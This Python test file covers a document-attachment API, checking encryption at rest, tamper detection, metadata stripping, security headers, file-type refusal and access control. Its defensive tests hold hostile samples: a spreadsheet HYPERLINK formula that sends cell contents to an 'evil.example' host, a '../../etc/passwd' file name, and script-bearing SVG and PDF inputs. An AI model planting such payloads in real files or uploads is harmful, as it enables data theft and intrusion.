"""Evidence: what a file is comes from its content."""

import io
import time
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
import sqlalchemy.orm
from PIL import Image

from backend.domain.access import Moment
from backend.domain.erasure import erase_files
from backend.domain.storage import Storage, digest_of
from tests.files import archive, pdf, picture

PDF = pdf()


async def upload(client, organization, data: bytes = PDF, name: str = "会议记录.pdf"):
    return await client.post(
        "/attachments", data={"organization_id": str(organization.id)}, files={"file": (name, data)}
    )


async def test_upload_201_and_download_the_same_bytes(county) -> None:
    client = county.client("clerk")
    kept = await upload(client, county.village)
    assert kept.status_code == 201
    assert kept.json()["media_type"] == "application/pdf"
    answer = await client.get(f"/attachments/{kept.json()['id']}")
    assert answer.content == PDF
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["x-content-type-options"] == "nosniff"


async def test_upload_201_lies_nowhere_in_clear_and_404_when_it_was_altered(county, data) -> None:
    client = county.client("clerk")
    words = b"canary of a paper that nobody reads on the disk"
    kept = (await upload(client, county.village, words, "a.txt")).json()
    files = [path for path in (data / "attachments").rglob("*") if path.is_file()]
    assert [path for path in files if words in path.read_bytes()] == []
    (lies,) = [path for path in files if path.name == f"{kept['sha256']}.sealed"]
    assert (await client.get(f"/attachments/{kept['id']}")).content == words
    lies.write_bytes(lies.read_bytes()[:-1] + b"x")
    answer = await client.get(f"/attachments/{kept['id']}")
    assert (answer.status_code, answer.json()["code"]) == (404, "not_found")


async def test_upload_500_when_the_commit_fails_leaves_a_stray_that_the_worker_removes(county, tmp_path: Path) -> None:
    storage: Storage = county.app.state.storage
    client, lost = county.client("clerk"), b"never committed"
    kept = (await upload(client, county.village, b"committed", "a.txt")).json()

    def fail(_: object) -> None:
        raise OSError("the disk of the database is full")

    sa.event.listen(sa.orm.Session, "before_commit", fail)
    try:
        assert (await upload(client, county.village, lost, "b.txt")).status_code == 500
    finally:
        sa.event.remove(sa.orm.Session, "before_commit", fail)
    assert storage.is_there(digest_of(lost))

    async def sweep(hours: int) -> None:
        async with county.app.state.database.transaction() as session:
            folders = {"temporary": tmp_path / "t", "photos": tmp_path / "p", "drafts": (), "storage": storage}
            at = time.time() + hours * 3600
            await erase_files(session, Moment(datetime.now(UTC)), **folders, machine=lambda: at)

    await sweep(23)
    assert storage.is_there(digest_of(lost)), "its commit may still come"
    await sweep(25)
    assert not storage.is_there(digest_of(lost))
    assert storage.read(kept["sha256"]) == b"committed"


async def test_upload_201_a_picture_is_kept_without_what_its_camera_wrote(county) -> None:
    exif = Image.Exif()
    exif[0x010F] = "CanaryPhone"
    client = county.client("clerk")
    kept = (await upload(client, county.village, picture("甲", "JPEG", exif=exif), "照片.html")).json()
    assert (kept["name"], kept["media_type"]) == ("照片.html.jpg", "image/jpeg")
    answer = await client.get(f"/attachments/{kept['id']}")
    assert b"CanaryPhone" not in answer.content
    assert Image.open(io.BytesIO(answer.content)).format == "JPEG"
    headers = answer.headers
    assert (headers["content-type"], headers["x-content-type-options"]) == ("image/jpeg", "nosniff")
    assert (headers["content-disposition"][:11], headers["content-security-policy"][:8]) == ("attachment;", "sandbox;")


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "file_empty"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", "file_kind_refused"),
        (b"<!doctype html><p>x", "file_kind_refused"),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00", "file_kind_refused"),
        (archive({"a.txt": "x"}), "file_kind_refused"),
        (archive({"word/document.xml": "x", "word/vbaProject.bin": "x"}), "file_with_macros"),
        (b"PK\x03\x04broken", "file_damaged"),
        (pdf("", b"<</S/JavaScript/JS(x)>>"), "file_with_active_content"),
    ],
)
async def test_upload_422_for_what_no_office_keeps(county, content: bytes, code: str) -> None:
    answer = await upload(county.client("clerk"), county.village, content, "材料.pdf")
    assert answer.status_code == 422
    assert answer.json()["errors"] == [
        {"pointer": "/file", "code": code, "message": answer.json()["errors"][0]["message"]}
    ]
    assert answer.json()["errors"][0]["message"] != code


def workbook(formula: str) -> bytes:
    book, made = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["柳塘村", formula])
    book.save(made)
    return made.getvalue()


async def test_upload_422_for_a_workbook_whose_link_takes_cells_along_and_201_for_plain_links(county) -> None:
    client = county.client("clerk")
    out = await upload(client, county.village, workbook('=HYPERLINK("http://evil.example/"&A1,"点这里")'), "台账.xlsx")
    assert (out.status_code, out.json()["errors"][0]["code"]) == (422, "file_with_active_content")
    for formula in ('=HYPERLINK("#Sheet!A1","返回")', '=HYPERLINK("https://www.example.gov.cn/","通知")'):
        assert (await upload(client, county.village, workbook(formula), "台账.xlsx")).status_code == 201


async def test_upload_201_a_name_with_a_path_keeps_its_last_part(county) -> None:
    kept = await upload(county.client("clerk"), county.village, PDF, "../../etc/passwd")
    assert (kept.status_code, kept.json()["name"]) == (201, "passwd.pdf")


async def test_upload_401_anonymous(anonymous, county) -> None:
    answer = await anonymous.post(
        "/api/v1/attachments", data={"organization_id": str(county.village.id)}, files={"file": ("a.pdf", PDF)}
    )
    assert answer.status_code == 401


async def test_upload_403_for_one_who_only_reads(county) -> None:
    assert (await upload(county.client("inspector"), county.village)).status_code == 403


async def test_upload_404_outside_reach(county, other_county) -> None:
    assert (await upload(county.client("clerk"), other_county.village)).status_code == 404


async def test_download_404_outside_reach_like_missing(county, other_county) -> None:
    kept = (await upload(county.client("clerk"), county.village)).json()["id"]
    outside = await other_county.client("clerk").get(f"/attachments/{kept}")
    missing = await other_county.client("clerk").get("/attachments/01a2048c-ac42-7cb1-a666-e47c24805b2d")
    assert outside.status_code == missing.status_code == 404
    assert {**outside.json(), "request_id": ""} == {**missing.json(), "request_id": ""}


async def test_upload_413_for_a_body_beyond_the_limit(county) -> None:
    answer = await county.client("clerk").post(
        "/attachments",
        content=b"x" * 10,
        headers={"content-type": "multipart/form-data; boundary=x", "content-length": str(65 * 1024 * 1024)},
    )
    assert answer.status_code == 413
